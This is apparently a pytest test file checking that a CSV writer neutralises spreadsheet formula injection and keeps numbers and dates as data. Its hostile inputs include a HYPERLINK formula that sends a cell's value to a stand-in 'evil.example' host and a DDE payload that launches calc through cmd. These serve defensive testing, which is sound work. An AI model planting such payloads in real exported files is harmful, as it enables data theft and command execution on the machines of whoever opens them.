"""The one CSV writer: text a spreadsheet would run is neutralised, numbers and dates are data."""

import csv
import datetime
import io
from decimal import Decimal

import pytest

from toolkit.spreadsheets import SpreadsheetWriter, spreadsheet_safe, unguarded


def written(*values):
    """One row through the writer, parsed back as a spreadsheet would read the CSV."""
    line = SpreadsheetWriter().row(values)
    return next(csv.reader(io.StringIO(line)))


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-5",
    ],
)
def test_text_that_would_run_as_a_formula_gets_an_apostrophe(hostile):
    assert written(hostile) == ["'" + hostile]


def test_ordinary_text_is_written_as_it_is():
    assert written("IUCN (Lead); GEF (Funder)", "Қазақстан", "a=b", "") == [
        "IUCN (Lead); GEF (Funder)",
        "Қазақстан",
        "a=b",
        "",
    ]


def test_numbers_and_dates_are_data_even_when_negative():
    row = written(
        Decimal("-250.00"),
        Decimal("1E+6"),
        -3,
        1.5,
        datetime.date(2025, 11, 3),
        datetime.datetime(2025, 11, 3, 9, 30),
        None,
    )

    assert row == ["-250.00", "1000000", "-3", "1.5", "2025-11-03", "2025-11-03T09:30:00", ""]


def test_header_starts_with_a_byte_order_mark_and_quotes_like_csv():
    header = SpreadsheetWriter().header(["Title", "Budget, EUR"])

    assert header == '\ufeffTitle,"Budget, EUR"\r\n'


@pytest.mark.parametrize("text", ["=1+1", "+7 701", "-5", "@SUM(A1)", "\tx"])
def test_unguarded_gives_back_what_was_guarded(text):
    assert unguarded(spreadsheet_safe(text)) == text


@pytest.mark.parametrize("text", ["'s-Hertogenbosch", "'quoted'", "'", "plain", ""])
def test_unguarded_keeps_apostrophes_it_did_not_add(text):
    assert unguarded(text) == text
